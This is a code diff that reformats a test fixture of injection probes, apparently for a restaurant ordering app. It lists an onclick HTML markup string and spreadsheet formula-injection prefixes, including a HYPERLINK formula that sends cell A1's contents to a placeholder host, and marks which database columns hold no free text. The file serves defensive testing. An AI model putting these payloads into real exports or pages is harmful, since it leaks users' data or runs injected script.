@@ -24,14 +24,31 @@ export const shortMarkup = '"><b data-ran onclick=__ran()>';
 
 /** Cell beginnings that spreadsheets evaluate. */
 export const formulas: readonly string[] = [
-  ...['=HYPERLINK("//away.invalid/"&A1)', '+1+1', '-1+1', '@SUM(1)', '\t=1', '\r=1', '\n=1', ' =1', '＝1', '"=1"&"'],
+  '=HYPERLINK("//away.invalid/"&A1)',
+  '+1+1',
+  '-1+1',
+  '@SUM(1)',
+  '\t=1',
+  '\r=1',
+  '\n=1',
+  ' =1',
+  '＝1',
+  '"=1"&"',
 ];
 
 // Columns without free text: generated, parsed, or used as keys.
 const noWords: Readonly<Record<string, readonly string[] | 'all'>> = {
-  ...{ idempotency_keys: 'all', rate_limits: 'all', staff_sessions: 'all', card_events: 'all', password_links: 'all' },
-  ...{ card_checkouts: 'all', sandbox_checkouts: 'all', sandbox_refunds: 'all', restaurant_logos: 'all' },
-  ...{ item_photos: 'all', item_photo_files: 'all' },
+  idempotency_keys: 'all',
+  rate_limits: 'all',
+  staff_sessions: 'all',
+  card_events: 'all',
+  password_links: 'all',
+  card_checkouts: 'all',
+  sandbox_checkouts: 'all',
+  sandbox_refunds: 'all',
+  restaurant_logos: 'all',
+  item_photos: 'all',
+  item_photo_files: 'all',
   outbox: ['dedupe_key', 'html', 'plain_text', 'status', 'failure'],
   dining_tables: ['code', 'otp'],
   visits: ['otp', 'last_request_hash'],
